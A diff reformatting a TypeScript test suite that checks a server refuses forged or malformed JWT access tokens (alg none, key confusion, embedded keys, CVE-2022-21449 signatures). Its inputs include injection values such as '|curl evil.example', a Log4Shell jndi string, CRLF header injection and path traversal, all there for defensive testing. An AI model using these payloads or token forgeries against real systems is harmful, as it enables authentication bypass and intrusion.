@@ -20,7 +20,10 @@ const signers = {
   hs: { alg: 'HS256', key: hmac, kid: 'hs' }
 } satisfies Record<string, Signer>
 const keys = Object.values(signers).map(({ alg, key, kid }) => ({
-  key: key instanceof KeyObject ? key : { kty: 'oct', k: key.toString('base64url') }, alg, kid, state: kid === 'rs' ? 'active' as const : 'previous' as const
+  key: key instanceof KeyObject ? key : { kty: 'oct', k: key.toString('base64url') },
+  alg,
+  kid,
+  state: kid === 'rs' ? ('active' as const) : ('previous' as const)
 }))
 
 interface Answer {
@@ -31,7 +34,7 @@ interface Answer {
 }
 
 /** Sends requests as raw bytes over one connection, and reads all answers. */
-async function exchange ({ app }: TestApp, requests: readonly string[]): Promise<Answer[]> {
+async function exchange({ app }: TestApp, requests: readonly string[]): Promise<Answer[]> {
   const socket = connect((app.server.address() as AddressInfo).port, '127.0.0.1')
   socket.setEncoding('latin1')
   await once(socket, 'connect')
@@ -40,23 +43,34 @@ async function exchange ({ app }: TestApp, requests: readonly string[]): Promise
   for (let rest = await text(socket); rest !== '';) {
     const end = rest.indexOf('\r\n\r\n') + 4
     const head = rest.slice(0, end).split('\r\n')
-    const all = (name: string) => head.filter((line) => line.toLowerCase().startsWith(`${name}: `)).map((line) => line.slice(name.length + 2))
+    const all = (name: string) =>
+      head.filter((line) => line.toLowerCase().startsWith(`${name}: `)).map((line) => line.slice(name.length + 2))
     const bodyEnd = end + Number(all('content-length')[0] ?? 0)
     const body = all('content-type')[0]?.startsWith('application/json') ? JSON.parse(rest.slice(end, bodyEnd)) : {}
-    answers.push({ status: Number(head[0]!.split(' ')[1]), code: body.code ?? null, challenge: all('www-authenticate')[0] ?? null, cookies: all('set-cookie') })
+    answers.push({
+      status: Number(head[0]!.split(' ')[1]),
+      code: body.code ?? null,
+      challenge: all('www-authenticate')[0] ?? null,
+      cookies: all('set-cookie')
+    })
     rest = rest.slice(bodyEnd)
   }
   return answers
 }
 
-function get (...lines: string[]): string {
+function get(...lines: string[]): string {
   return ['GET /me HTTP/1.1', 'Host: api.example.com', ...lines, '', ''].join('\r\n')
 }
 
 const invalid: Answer = { status: 401, code: 'AUTH_INVALID_TOKEN', challenge: challenges.invalid, cookies: [] }
 const expired: Answer = { status: 401, code: 'AUTH_EXPIRED_TOKEN', challenge: challenges.expired, cookies: [] }
 const revoked: Answer = { status: 401, code: 'AUTH_REVOKED_TOKEN', challenge: challenges.revoked, cookies: [] }
-const malformed: Answer = { status: 400, code: 'AUTH_MALFORMED_CREDENTIALS', challenge: challenges.malformed, cookies: [] }
+const malformed: Answer = {
+  status: 400,
+  code: 'AUTH_MALFORMED_CREDENTIALS',
+  challenge: challenges.malformed,
+  cookies: []
+}
 const bare: Answer = { status: 401, code: 'AUTH_NO_CREDENTIALS', challenge: challenges.bare, cookies: [] }
 const passed: Answer = { status: 200, code: null, challenge: null, cookies: [] }
 
@@ -71,7 +85,13 @@ const cookie = `Cookie: __Host-access=${honest}`
 type Row = readonly [name: string, token: string, expected?: Answer]
 
 /** Compares all answers in one assertion, which shows the rows that differ: thousands of them would take tap seconds. */
-function same (t: Test, what: string, names: readonly string[], actual: readonly unknown[], expected: readonly unknown[]): void {
+function same(
+  t: Test,
+  what: string,
+  names: readonly string[],
+  actual: readonly unknown[],
+  expected: readonly unknown[]
+): void {
   t.equal(actual.length, expected.length, `${what}: each of ${expected.length} is answered`)
   const differing = names.map((_, index) => index).filter((index) => !isDeepStrictEqual(actual[index], expected[index]))
   const named = (values: readonly unknown[]) => differing.map((index) => [names[index], values[index]])
@@ -80,31 +100,76 @@ function same (t: Test, what: string, names: readonly string[], actual: readonly
 }
 
 /** Every row is a name, what stands behind `Authorization: `, and the answer; a valid cookie comes with each. */
-async function presents (t: Test, rows: readonly Required<Row>[]): Promise<void> {
-  const answers = await exchange(server, rows.map(([, authorization]) => get(cookie, `Authorization: ${authorization}`)))
-  same(t, 'in the header', rows.map(([name]) => name), answers, rows.map(([,, expected]) => expected))
+async function presents(t: Test, rows: readonly Required<Row>[]): Promise<void> {
+  const answers = await exchange(
+    server,
+    rows.map(([, authorization]) => get(cookie, `Authorization: ${authorization}`))
+  )
+  same(
+    t,
+    'in the header',
+    rows.map(([name]) => name),
+    answers,
+    rows.map(([, , expected]) => expected)
+  )
 }
 
 /** Tokens that are refused in the header beside a valid cookie, in the cookie, and by verify(). */
-async function refusesAll (t: Test, rows: readonly Row[]): Promise<void> {
-  await presents(t, rows.map(([name, token, expected = invalid]) => [name, `Bearer ${token}`, expected]))
+async function refusesAll(t: Test, rows: readonly Row[]): Promise<void> {
+  await presents(
+    t,
+    rows.map(([name, token, expected = invalid]) => [name, `Bearer ${token}`, expected])
+  )
 
   // A token that has merely expired stays: it tells a session that can be refreshed from none. One that says it is
   // another application's counts as absent.
-  const byCookie = (token: string, expected: Answer) => isForeign(token) ? bare : expected === expired ? expired : { ...invalid, cookies: [clearing('__Host-access')] }
-  const answers = await exchange(server, rows.map(([, token]) => get(`Cookie: __Host-access=${token}`)))
-  same(t, 'in the cookie', rows.map(([name]) => name), answers, rows.map(([, token, expected = invalid]) => byCookie(token, expected)))
+  const byCookie = (token: string, expected: Answer) =>
+    isForeign(token) ? bare : expected === expired ? expired : { ...invalid, cookies: [clearing('__Host-access')] }
+  const answers = await exchange(
+    server,
+    rows.map(([, token]) => get(`Cookie: __Host-access=${token}`))
+  )
+  same(
+    t,
+    'in the cookie',
+    rows.map(([name]) => name),
+    answers,
+    rows.map(([, token, expected = invalid]) => byCookie(token, expected))
+  )
 
-  const codes = await Promise.all(rows.map(([, token]) => server.app.accessTokens.verify(token).then(() => 'accepted', ({ code }) => code)))
-  same(t, 'by verify()', rows.map(([name]) => name), codes, rows.map(([,, expected]) => expected === expired ? expired.code : invalid.code))
+  const codes = await Promise.all(
+    rows.map(([, token]) =>
+      server.app.accessTokens.verify(token).then(
+        () => 'accepted',
+        ({ code }) => code
+      )
+    )
+  )
+  same(
+    t,
+    'by verify()',
+    rows.map(([name]) => name),
+    codes,
+    rows.map(([, , expected]) => (expected === expired ? expired.code : invalid.code))
+  )
 }
 
 /** Whether a token has the shape of one, and a string as `iss` that is not ours. */
-function isForeign (token: string): boolean {
+function isForeign(token: string): boolean {
   const segments = token.split('.')
   try {
-    if (token.length > 8192 || segments.length !== 3 || segments.some((segment) => Buffer.from(segment, 'base64url').toString('base64url') !== segment)) return false
-    const [header, payload] = segments.slice(0, 2).map((segment) => JSON.parse(new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(Buffer.from(segment, 'base64url'))))
+    if (
+      token.length > 8192 ||
+      segments.length !== 3 ||
+      segments.some((segment) => Buffer.from(segment, 'base64url').toString('base64url') !== segment)
+    ) {
+      return false
+    }
+    const [header, payload] = segments
+      .slice(0, 2)
+      .map((segment) =>
+        JSON.parse(new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(Buffer.from(segment, 'base64url')))
+      )
     return typeof header === 'object' && typeof payload.iss === 'string' && payload.iss !== issuer
   } catch {
     return false
@@ -112,19 +177,22 @@ function isForeign (token: string): boolean {
 }
 
 /** A token whose header says one thing, while the bytes of the signature are another's. */
-function signedAs (header: Record<string, unknown>, make: (input: string) => string | Buffer): string {
+function signedAs(header: Record<string, unknown>, make: (input: string) => string | Buffer): string {
   const input = `${encode({ typ: 'at+jwt', ...header })}.${encode(goodClaims)}`
   const bytes = make(input)
   return `${input}.${Buffer.isBuffer(bytes) ? bytes.toString('base64url') : bytes}`
 }
 
 const bytesOf = (token: string) => Buffer.from(token.split('.')[2]!, 'base64url')
-const withSignature = (token: string, bytes: Buffer | string) => `${token.split('.').slice(0, 2).join('.')}.${Buffer.isBuffer(bytes) ? bytes.toString('base64url') : bytes}`
+const withSignature = (token: string, bytes: Buffer | string) =>
+  `${token.split('.').slice(0, 2).join('.')}.${Buffer.isBuffer(bytes) ? bytes.toString('base64url') : bytes}`
 
 t.test('the honest tokens of this file are accepted, so that the others fail for what is wrong in them', async (t) => {
   await presents(t, [
     ...Object.entries(signers).map(([name, signer]) => [name, `Bearer ${forge(signer)}`, passed] as const),
-    ...Object.entries(signers).map(([name, signer]) => [`${name} without kid`, `Bearer ${forge({ ...signer, kid: undefined })}`, passed] as const),
+    ...Object.entries(signers).map(
+      ([name, signer]) => [`${name} without kid`, `Bearer ${forge({ ...signer, kid: undefined })}`, passed] as const
+    ),
     ['any case and many spaces', `bEARER    ${honest}`, passed],
     ['the cookie beside an ambient scheme', 'Basic YTpi', passed]
   ])
@@ -132,11 +200,54 @@ t.test('the honest tokens of this file are accepted, so that the others fail for
 })
 
 t.test('alg none, in all spellings, with and without a signature (RFC 8725 §2.1)', async (t) => {
-  const spellings = ['none', 'None', 'NONE', 'nOnE', ' none', 'none ', 'none\0', 'nоne', '', 'null', null, undefined, 0, false, true, [], ['none'], ['RS256'], {}, { alg: 'RS256' }, 'rs256', 'RS256 ', 'RS256\n', 'RS1', 'HS1', 'RS', 'ES256K', 'Ed25519', 'RSA-OAEP', 'dir', 'toString', 'constructor', '__proto__', 'hasOwnProperty']
-  await refusesAll(t, spellings.flatMap((alg) => [undefined, 'rs', 'hs', 'none'].flatMap((kid) => [
-    [`${JSON.stringify(alg)} of kid ${kid}, unsigned`, signedAs({ alg, kid }, () => '')] as const,
-    [`${JSON.stringify(alg)} of kid ${kid}, signed`, signedAs({ alg, kid }, (input) => signature(signers.rs, input))] as const
-  ])))
+  const spellings = [
+    'none',
+    'None',
+    'NONE',
+    'nOnE',
+    ' none',
+    'none ',
+    'none\0',
+    'nоne',
+    '',
+    'null',
+    null,
+    undefined,
+    0,
+    false,
+    true,
+    [],
+    ['none'],
+    ['RS256'],
+    {},
+    { alg: 'RS256' },
+    'rs256',
+    'RS256 ',
+    'RS256\n',
+    'RS1',
+    'HS1',
+    'RS',
+    'ES256K',
+    'Ed25519',
+    'RSA-OAEP',
+    'dir',
+    'toString',
+    'constructor',
+    '__proto__',
+    'hasOwnProperty'
+  ]
+  await refusesAll(
+    t,
+    spellings.flatMap((alg) =>
+      [undefined, 'rs', 'hs', 'none'].flatMap((kid) => [
+        [`${JSON.stringify(alg)} of kid ${kid}, unsigned`, signedAs({ alg, kid }, () => '')] as const,
+        [
+          `${JSON.stringify(alg)} of kid ${kid}, signed`,
+          signedAs({ alg, kid }, (input) => signature(signers.rs, input))
+        ] as const
+      ])
+    )
+  )
 })
 
 t.test('a public key as HMAC secret, in every form it is published in (RFC 8725 §2.1)', async (t) => {
@@ -159,25 +270,60 @@ t.test('a public key as HMAC secret, in every form it is published in (RFC 8725 
       'the kid': published!.kid
     }
   }
-  const rows = [rsa, ec, ed].flatMap(({ publicKey }) => Object.entries(forms(publicKey)).flatMap(([form, material]) => ['HS256', 'HS384', 'HS512'].flatMap((alg) => [undefined, 'rs', 'es', 'hs'].map((kid) =>
-    [`${alg} with ${publicKey.asymmetricKeyType} as ${form}, kid ${kid}`, forge({ alg, key: Buffer.from(material as string), kid })] as const))))
+  const rows = [rsa, ec, ed].flatMap(({ publicKey }) =>
+    Object.entries(forms(publicKey)).flatMap(([form, material]) =>
+      ['HS256', 'HS384', 'HS512'].flatMap((alg) =>
+        [undefined, 'rs', 'es', 'hs'].map(
+          (kid) =>
+            [
+              `${alg} with ${publicKey.asymmetricKeyType} as ${form}, kid ${kid}`,
+              forge({ alg, key: Buffer.from(material as string), kid })
+            ] as const
+        )
+      )
+    )
+  )
   await refusesAll(t, rows)
 })
 
-t.test('a good key under another algorithm\'s name, and another key under a good name', async (t) => {
-  const names = ['HS256', 'HS384', 'HS512', 'RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512', 'ES256', 'ES384', 'ES512', 'EdDSA']
-  const rows = Object.entries(signers).flatMap(([name, signer]) => names.filter((alg) => alg !== signer.alg).flatMap((alg) => [undefined, ...Object.keys(signers)].map((kid) =>
-    [`signed by ${name}, called ${alg} of ${kid}`, forge({ ...signer, kid }, { header: { alg } })] as const)))
+t.test("a good key under another algorithm's name, and another key under a good name", async (t) => {
+  const names = [
+    'HS256',
+    'HS384',
+    'HS512',
+    'RS256',
+    'RS384',
+    'RS512',
+    'PS256',
+    'PS384',
+    'PS512',
+    'ES256',
+    'ES384',
+    'ES512',
+    'EdDSA'
+  ]
+  const rows = Object.entries(signers).flatMap(([name, signer]) =>
+    names
+      .filter((alg) => alg !== signer.alg)
+      .flatMap((alg) =>
+        [undefined, ...Object.keys(signers)].map(
+          (kid) =>
+            [`signed by ${name}, called ${alg} of ${kid}`, forge({ ...signer, kid }, { header: { alg } })] as const
+        )
+      )
+  )
   const stranger = generateKeyPairSync('ed25519')
   const strangerEc = generateKeyPairSync('ec', { namedCurve: 'P-256' })
   await refusesAll(t, [
     ...rows,
-    ...Object.keys(signers).filter((kid) => kid !== 'ed').map((kid) => [`a good signature of ed under the kid ${kid}`, forge({ ...signers.ed, kid })] as const),
+    ...Object.keys(signers)
+      .filter((kid) => kid !== 'ed')
+      .map((kid) => [`a good signature of ed under the kid ${kid}`, forge({ ...signers.ed, kid })] as const),
     ['another Ed25519 key', forge({ ...signers.ed, key: stranger.privateKey })],
     ['another Ed25519 key, no kid', forge({ alg: 'EdDSA', key: stranger.privateKey })],
     ['another P-256 key', forge({ ...signers.es, key: strangerEc.privateKey })],
     ['another HMAC key', forge({ ...signers.hs, key: randomBytes(64) })],
-    ['the server\'s secret, which signs nothing here', forge(serverOf(secret))],
+    ["the server's secret, which signs nothing here", forge(serverOf(secret))],
     ['RS512 by the RS256 key', forge({ ...signers.rs, alg: 'RS512' })],
     ['HS512 by the HS256 key', forge({ ...signers.hs, alg: 'HS512' })]
   ])
@@ -185,26 +331,87 @@ t.test('a good key under another algorithm\'s name, and another key under a good
 
 t.test('keys that a token brings along are never used, nor fetched (RFC 8725 §3.10)', async (t) => {
   let fetched = 0
-  const trap = await createApp({ after: (app) => app.get('/trap', async () => { fetched++; return { keys: [jwk] } }) })
+  const trap = await createApp({
+    after: (app) =>
+      app.get('/trap', async () => {
+        fetched++
+        return { keys: [jwk] }
+      })
+  })
   const attacker = generateKeyPairSync('ed25519')
   const jwk = { ...attacker.publicKey.export({ format: 'jwk' }), kid: 'ed', alg: 'EdDSA', use: 'sig' }
   const url = `${await trap.app.listen({ port: 0, host: '127.0.0.1' })}/trap`
   t.teardown(() => trap.app.close())
-  const headers: Record<string, unknown>[] = [{ jwk }, { jku: url }, { x5u: url }, { x5c: [attacker.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')] }, { jwk, jku: url, x5u: url }, { jwk: { kty: 'oct', k: encode('x'.repeat(32)) }, alg: 'HS256' }, { x5t: 'x', 'x5t#S256': 'x' }]
-  const kids = [undefined, 'ed', 'attacker', url, '/dev/null', '../../../dev/null', 'ed\' UNION SELECT \'x', '|curl evil.example']
-  await refusesAll(t, headers.flatMap((header) => kids.map((kid) => [`${Object.keys(header)} under ${kid}`, forge({ alg: 'EdDSA', key: attacker.privateKey, kid }, { header })] as const)))
-  await presents(t, [['and beside a good signature they mean nothing', `Bearer ${forge(signers.ed, { header: { jku: url, x5u: url, jwk, x5c: ['x'] } })}`, passed]])
+  const headers: Record<string, unknown>[] = [
+    { jwk },
+    { jku: url },
+    { x5u: url },
+    { x5c: [attacker.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')] },
+    { jwk, jku: url, x5u: url },
+    { jwk: { kty: 'oct', k: encode('x'.repeat(32)) }, alg: 'HS256' },
+    { x5t: 'x', 'x5t#S256': 'x' }
+  ]
+  const kids = [
+    undefined,
+    'ed',
+    'attacker',
+    url,
+    '/dev/null',
+    '../../../dev/null',
+    "ed' UNION SELECT 'x",
+    '|curl evil.example'
+  ]
+  await refusesAll(
+    t,
+    headers.flatMap((header) =>
+      kids.map(
+        (kid) =>
+          [
+            `${Object.keys(header)} under ${kid}`,
+            forge({ alg: 'EdDSA', key: attacker.privateKey, kid }, { header })
+          ] as const
+      )
+    )
+  )
+  await presents(t, [
+    [
+      'and beside a good signature they mean nothing',
+      `Bearer ${forge(signers.ed, { header: { jku: url, x5u: url, jwk, x5c: ['x'] } })}`,
+      passed
+    ]
+  ])
   t.equal(fetched, 0)
 })
 
 t.test('headers that change the meaning of a token (RFC 7515 §4.1.11, RFC 7797, RFC 7516)', async (t) => {
   const headers: Record<string, unknown>[] = [
     ...[null, [], ['exp'], ['b64'], ['alg'], 'exp', {}, false, 0, ['exp', 'exp'], [null]].map((crit) => ({ crit })),
-    { crit: ['exp'], exp: now + 600 }, { b64: false, crit: ['b64'] }, { b64: true, crit: ['b64'] }, { b64: true }, { b64: false }, { b64: null },
-    { zip: 'DEF' }, { zip: null }, { enc: 'A256GCM' }, { enc: null }, { alg: 'dir', enc: 'A256GCM' },
-    { typ: 'JWT' }, { typ: 'id_token' }, { typ: 'rt+jwt' }, { typ: 'dpop+jwt' }, { typ: null }, { typ: undefined }, { typ: ['at+jwt'] }, { typ: 'at+jwt\0' }
+    { crit: ['exp'], exp: now + 600 },
+    { b64: false, crit: ['b64'] },
+    { b64: true, crit: ['b64'] },
+    { b64: true },
+    { b64: false },
+    { b64: null },
+    { zip: 'DEF' },
+    { zip: null },
+    { enc: 'A256GCM' },
+    { enc: null },
+    { alg: 'dir', enc: 'A256GCM' },
+    { typ: 'JWT' },
+    { typ: 'id_token' },
+    { typ: 'rt+jwt' },
+    { typ: 'dpop+jwt' },
+    { typ: null },
+    { typ: undefined },
+    { typ: ['at+jwt'] },
+    { typ: 'at+jwt\0' }
   ]
-  await refusesAll(t, Object.values(signers).flatMap((signer) => headers.map((header) => [`${signer.alg} with ${JSON.stringify(header)}`, forge(signer, { header })] as const)))
+  await refusesAll(
+    t,
+    Object.values(signers).flatMap((signer) =>
+      headers.map((header) => [`${signer.alg} with ${JSON.stringify(header)}`, forge(signer, { header })] as const)
+    )
+  )
 })
 
 t.test('signatures that are nearly right', async (t) => {
@@ -218,35 +425,82 @@ t.test('signatures that are nearly right', async (t) => {
   const edSignature = bytesOf(forge(signers.ed))
   const edScalar = number(Buffer.from(edSignature.subarray(32)).reverse())
   const digest = (input: string, hash: string) => sign(hash, Buffer.from(input), rsa.privateKey)
-  const pss = (saltLength: number, hash = 'sha256') => (input: string) => sign(hash, Buffer.from(input), { key: rsa.privateKey, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength })
+  const pss =
+    (saltLength: number, hash = 'sha256') =>
+    (input: string) =>
+      sign(hash, Buffer.from(input), { key: rsa.privateKey, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength })
 
   const lengths = Object.values(signers).flatMap((signer) => {
     const token = forge(signer)
     const bytes = bytesOf(token)
     const changed: [string, Buffer][] = [
-      ['none', Buffer.alloc(0)], ['one byte', bytes.subarray(0, 1)], ['half', bytes.subarray(0, bytes.length / 2)], ['one byte less', bytes.subarray(0, -1)], ['without the first byte', bytes.subarray(1)],
-      ['one byte more', Buffer.concat([bytes, Buffer.alloc(1)])], ['a zero before', Buffer.concat([Buffer.alloc(1), bytes])], ['twice', Buffer.concat([bytes, bytes])],
-      ['zeros', Buffer.alloc(bytes.length)], ['ones', Buffer.alloc(bytes.length, 0xff)], ['long', Buffer.alloc(4096, 1)],
-      ['one bit', Buffer.from(bytes.map((byte, index) => index === 5 ? byte ^ 1 : byte))], ['the last bit', Buffer.from(bytes.map((byte, index) => index === bytes.length - 1 ? byte ^ 1 : byte))]
+      ['none', Buffer.alloc(0)],
+      ['one byte', bytes.subarray(0, 1)],
+      ['half', bytes.subarray(0, bytes.length / 2)],
+      ['one byte less', bytes.subarray(0, -1)],
+      ['without the first byte', bytes.subarray(1)],
+      ['one byte more', Buffer.concat([bytes, Buffer.alloc(1)])],
+      ['a zero before', Buffer.concat([Buffer.alloc(1), bytes])],
+      ['twice', Buffer.concat([bytes, bytes])],
+      ['zeros', Buffer.alloc(bytes.length)],
+      ['ones', Buffer.alloc(bytes.length, 0xff)],
+      ['long', Buffer.alloc(4096, 1)],
+      ['one bit', Buffer.from(bytes.map((byte, index) => (index === 5 ? byte ^ 1 : byte)))],
+      ['the last bit', Buffer.from(bytes.map((byte, index) => (index === bytes.length - 1 ? byte ^ 1 : byte)))]
     ]
-    return changed.map(([name, signatureBytes]) => [`${signer.alg}: ${name}`, withSignature(token, signatureBytes)] as const)
+    return changed.map(
+      ([name, signatureBytes]) => [`${signer.alg}: ${name}`, withSignature(token, signatureBytes)] as const
+    )
   })
   await refusesAll(t, [
     ...lengths,
-    ['ECDSA in DER', signedAs({ alg: 'ES256', kid: 'es' }, (input) => sign('sha256', Buffer.from(input), ec.privateKey))],
-    ['ECDSA over SHA-512', signedAs({ alg: 'ES256', kid: 'es' }, (input) => sign('sha512', Buffer.from(input), { key: ec.privateKey, dsaEncoding: 'ieee-p1363' }))],
-    ...([['r = s = 0 (CVE-2022-21449)', 0n, 0n], ['r = 0', 0n, s], ['s = 0', r, 0n], ['r = s = n', order, order], ['r = 1, s = n', 1n, order], ['r = s = 1', 1n, 1n], ['s = n', r, order], ['r and s exchanged', s, r], ['all ones', 2n ** 256n - 1n, 2n ** 256n - 1n]] as const)
-      .map(([name, first, second]) => [`ECDSA ${name}`, withSignature(es, pair(first, second))] as const),
-    ['EdDSA with S + L', withSignature(forge(signers.ed), Buffer.concat([edSignature.subarray(0, 32), word(edScalar + edOrder).reverse()]))],
-    ['EdDSA with a point of small order', withSignature(forge(signers.ed), Buffer.concat([Buffer.from([1]), Buffer.alloc(63)]))],
+    [
+      'ECDSA in DER',
+      signedAs({ alg: 'ES256', kid: 'es' }, (input) => sign('sha256', Buffer.from(input), ec.privateKey))
+    ],
+    [
+      'ECDSA over SHA-512',
+      signedAs({ alg: 'ES256', kid: 'es' }, (input) =>
+        sign('sha512', Buffer.from(input), { key: ec.privateKey, dsaEncoding: 'ieee-p1363' })
+      )
+    ],
+    ...(
+      [
+        ['r = s = 0 (CVE-2022-21449)', 0n, 0n],
+        ['r = 0', 0n, s],
+        ['s = 0', r, 0n],
+        ['r = s = n', order, order],
+        ['r = 1, s = n', 1n, order],
+        ['r = s = 1', 1n, 1n],
+        ['s = n', r, order],
+        ['r and s exchanged', s, r],
+        ['all ones', 2n ** 256n - 1n, 2n ** 256n - 1n]
+      ] as const
+    ).map(([name, first, second]) => [`ECDSA ${name}`, withSignature(es, pair(first, second))] as const),
+    [
+      'EdDSA with S + L',
+      withSignature(forge(signers.ed), Buffer.concat([edSignature.subarray(0, 32), word(edScalar + edOrder).reverse()]))
+    ],
+    [
+      'EdDSA with a point of small order',
+      withSignature(forge(signers.ed), Buffer.concat([Buffer.from([1]), Buffer.alloc(63)]))
+    ],
     ['PS256 without salt', signedAs({ alg: 'PS256', kid: 'ps' }, pss(0))],
     ['PS256 with the longest salt', signedAs({ alg: 'PS256', kid: 'ps' }, pss(constants.RSA_PSS_SALTLEN_MAX_SIGN))],
     ['PS256 with a salt of 20 bytes', signedAs({ alg: 'PS256', kid: 'ps' }, pss(20))],
     ['PS256 over SHA-512', signedAs({ alg: 'PS256', kid: 'ps' }, pss(64, 'sha512'))],
     ['RS256 over SHA-1', signedAs({ alg: 'RS256', kid: 'rs' }, (input) => digest(input, 'sha1'))],
     ['RS256 over SHA-512', signedAs({ alg: 'RS256', kid: 'rs' }, (input) => digest(input, 'sha512'))],
-    ['RS256 of the bare digest', signedAs({ alg: 'RS256', kid: 'rs' }, (input) => privateEncrypt(rsa.privateKey, Buffer.from(input).subarray(0, 32)))],
-    ['a signature of the payload alone', signedAs({ alg: 'EdDSA', kid: 'ed' }, (input) => signature(signers.ed, input.split('.')[1]!))],
+    [
+      'RS256 of the bare digest',
+      signedAs({ alg: 'RS256', kid: 'rs' }, (input) =>
+        privateEncrypt(rsa.privateKey, Buffer.from(input).subarray(0, 32))
+      )
+    ],
+    [
+      'a signature of the payload alone',
+      signedAs({ alg: 'EdDSA', kid: 'ed' }, (input) => signature(signers.ed, input.split('.')[1]!))
+    ],
     ['a signature of another token', withSignature(forge(signers.ed, { claims: { sub: 'admin' } }), edSignature)]
   ])
 
@@ -256,20 +510,29 @@ t.test('signatures that are nearly right', async (t) => {
   const mirrored = withSignature(original, pair(number(bytes.subarray(0, 32)), order - number(bytes.subarray(32))))
   await presents(t, [['ECDSA is malleable: -s signs as well as s', `Bearer ${mirrored}`, passed]])
   await server.app.accessTokens.revoke('ended', now + 600)
-  await presents(t, [['so a revoked token', `Bearer ${original}`, revoked], ['is revoked with its twin', `Bearer ${mirrored}`, revoked]])
+  await presents(t, [
+    ['so a revoked token', `Bearer ${original}`, revoked],
+    ['is revoked with its twin', `Bearer ${mirrored}`, revoked]
+  ])
 })
 
 t.test('other encodings of a good token: spare bits, padding, alphabet, white space (RFC 7515 §2)', async (t) => {
   const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
   // Lengths of header, payload and signature that each leave bits over.
-  const token = forge(signers.hs, { header: JSON.stringify({ alg: 'HS256', typ: 'at+jwt', kid: 'hs', pad: 'xx' }), claims: JSON.stringify({ ...goodClaims, pad: '' }) })
+  const token = forge(signers.hs, {
+    header: JSON.stringify({ alg: 'HS256', typ: 'at+jwt', kid: 'hs', pad: 'xx' }),
+    claims: JSON.stringify({ ...goodClaims, pad: '' })
+  })
   const segments = token.split('.')
   const spare = segments.flatMap((segment, index) => {
     const bits = [0, 0, 4, 2][segment.length % 4]!
     t.ok(bits > 0, `segment ${index} has ${bits} spare bits`)
     return Array.from({ length: 2 ** bits - 1 }, (_, bit) => {
       const last = alphabet[alphabet.indexOf(segment.at(-1)!) + bit + 1]
-      return [`spare bits ${bit + 1} of segment ${index}`, segments.map((same, at) => at === index ? same.slice(0, -1) + last : same).join('.')] as const
+      return [
+        `spare bits ${bit + 1} of segment ${index}`,
+        segments.map((same, at) => (at === index ? same.slice(0, -1) + last : same)).join('.')
+      ] as const
     })
   })
   await refusesAll(t, spare)
@@ -311,12 +574,68 @@ t.test('other encodings of a good token: spare bits, padding, alphabet, white sp
 t.test('an Authorization of any other shape never falls back to the cookie', async (t) => {
   const inUtf8 = (words: string) => Buffer.from(words).toString('latin1')
   await presents(t, [
-    ...['', 'Bearer:', `Bearer:${honest}`, `Bearer\t${honest}`, `Bearer\xa0${honest}`, `"Bearer" ${honest}`, `Bearer=${honest}`, `Bearer,${honest}`, honest, `JWT ${honest}`, `Token ${honest}`, `DPoP ${honest}`, `Bearers ${honest}`, `Beare ${honest}`, `BasicBearer ${honest}`, `MAC ${honest}`, 'null', 'undefined', '[object Object]', 'Basic:YTpi', 'Basics YTpi']
-      .map((authorization) => [`foreign: ${authorization.slice(0, 16)}`, authorization, bare] as const),
-    ...['Веarer', 'Bеarer', 'Ｂｅａｒｅｒ', 'ʙearer', 'Bearer\u200b', '\ufeffBearer', 'Beаrer'].map((scheme) => [`confusable: ${scheme}`, inUtf8(`${scheme} ${honest}`), bare] as const),
-    ...['Bearer', 'bearer', 'BEARER   ', 'Bearer =', 'Bearer ====', `Bearer ${honest} ${honest}`, `Bearer ${honest},`, `Bearer ${honest}, Bearer ${honest}`, `Bearer Bearer ${honest}`, `Bearer token=${honest}`, `Bearer ${honest};`, 'Bearer {}', 'Bearer \xff', 'Bearer "', 'Bearer <script>', 'Bearer $' + '{jndi:ldap://evil.example/x}', 'Bearer \\r\\nSet-Cookie: a=b', 'Bearer %0d%0aSet-Cookie:%20a=b', 'Bearer %s%n', '  Bearer  \t ']
-      .map((authorization) => [`malformed: ${authorization.slice(0, 24)}`, authorization, malformed] as const),
-    ...['null', 'undefined', 'true', '0', 'NaN', 'a', 'a.b', 'a.b.c', 'a.b.c.d', '../../etc/passwd', '-', '__proto__'].map((word) => [`no token: ${word}`, `Bearer ${word}`, invalid] as const),
+    ...[
+      '',
+      'Bearer:',
+      `Bearer:${honest}`,
+      `Bearer\t${honest}`,
+      `Bearer\xa0${honest}`,
+      `"Bearer" ${honest}`,
+      `Bearer=${honest}`,
+      `Bearer,${honest}`,
+      honest,
+      `JWT ${honest}`,
+      `Token ${honest}`,
+      `DPoP ${honest}`,
+      `Bearers ${honest}`,
+      `Beare ${honest}`,
+      `BasicBearer ${honest}`,
+      `MAC ${honest}`,
+      'null',
+      'undefined',
+      '[object Object]',
+      'Basic:YTpi',
+      'Basics YTpi'
+    ].map((authorization) => [`foreign: ${authorization.slice(0, 16)}`, authorization, bare] as const),
+    ...['Веarer', 'Bеarer', 'Ｂｅａｒｅｒ', 'ʙearer', 'Bearer\u200b', '\ufeffBearer', 'Beаrer'].map(
+      (scheme) => [`confusable: ${scheme}`, inUtf8(`${scheme} ${honest}`), bare] as const
+    ),
+    ...[
+      'Bearer',
+      'bearer',
+      'BEARER   ',
+      'Bearer =',
+      'Bearer ====',
+      `Bearer ${honest} ${honest}`,
+      `Bearer ${honest},`,
+      `Bearer ${honest}, Bearer ${honest}`,
+      `Bearer Bearer ${honest}`,
+      `Bearer token=${honest}`,
+      `Bearer ${honest};`,
+      'Bearer {}',
+      'Bearer \xff',
+      'Bearer "',
+      'Bearer <script>',
+      'Bearer $' + '{jndi:ldap://evil.example/x}',
+      'Bearer \\r\\nSet-Cookie: a=b',
+      'Bearer %0d%0aSet-Cookie:%20a=b',
+      'Bearer %s%n',
+      '  Bearer  \t '
+    ].map((authorization) => [`malformed: ${authorization.slice(0, 24)}`, authorization, malformed] as const),
+    ...[
+      'null',
+      'undefined',
+      'true',
+      '0',
+      'NaN',
+      'a',
+      'a.b',
+      'a.b.c',
+      'a.b.c.d',
+      '../../etc/passwd',
+      '-',
+      '__proto__'
+    ].map((word) => [`no token: ${word}`, `Bearer ${word}`, invalid] as const),
     ['two lines, both good', `Bearer ${honest}\r\nAuthorization: Bearer ${honest}`, malformed],
